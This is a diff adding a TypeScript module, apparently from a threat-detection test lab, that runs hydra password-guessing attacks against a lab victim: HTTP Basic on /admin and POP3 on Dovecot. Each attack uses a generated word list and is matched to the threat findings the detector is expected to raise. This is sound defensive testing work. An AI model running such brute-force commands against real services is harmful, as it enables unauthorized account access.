@@ -1,0 +1,70 @@
+/** hydra guessing passwords at the victim's services: HTTP Basic on the vulnerable app, POP3 on Dovecot. */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { ThreatFinding } from '#core/finding.ts';
+import { type AttackLab, addresses } from './attack-lab.ts';
+import type { Attack } from './attacks.ts';
+import { pop3Login, ports } from './victim-servers.ts';
+
+const toPort = (port: number) => (f: ThreatFinding) => f.server.port === port;
+const { victim } = addresses;
+
+/** hydra's word list: 30 wrong passwords, then the right one. */
+const passwordList = (lab: AttackLab, name: string, right: string): string => {
+  const words = join(lab.dir, name);
+  writeFileSync(words, `${[...Array.from({ length: 30 }, (_, i) => `guess${i}`), right].join('\n')}\n`);
+  return words;
+};
+
+export const passwordAttacks: readonly Attack[] = [
+  {
+    name: 'hydra: HTTP Basic password guessing on /admin (30 wrong passwords, then the right one)',
+    threats: ['http-auth-brute-force'],
+    matches: toPort(ports.sqlmapTarget),
+    run: (lab) =>
+      lab.attacker.exec(
+        'hydra',
+        [
+          '-l',
+          'admin',
+          '-P',
+          passwordList(lab, 'passwords.txt', 'correct-horse'),
+          '-t',
+          '4',
+          '-f',
+          '-I',
+          '-s',
+          String(ports.sqlmapTarget),
+          victim,
+          'http-get',
+          '/admin',
+        ],
+        { timeoutMs: 60_000 },
+      ),
+  },
+  {
+    // hydra asks for CAPA first and, as Dovecot offers SASL PLAIN, guesses with AUTH PLAIN rather than USER/PASS.
+    name: 'hydra: POP3 password guessing against Dovecot (30 wrong passwords, then the right one)',
+    threats: ['db-auth-brute-force', 'cleartext-credentials'],
+    matches: toPort(ports.pop3),
+    run: (lab) =>
+      lab.attacker.exec(
+        'hydra',
+        [
+          '-l',
+          pop3Login.user,
+          '-P',
+          passwordList(lab, 'pop3-passwords.txt', pop3Login.password),
+          '-t',
+          '4',
+          '-f',
+          '-I',
+          '-s',
+          String(ports.pop3),
+          victim,
+          'pop3',
+        ],
+        { timeoutMs: 60_000 },
+      ),
+  },
+];
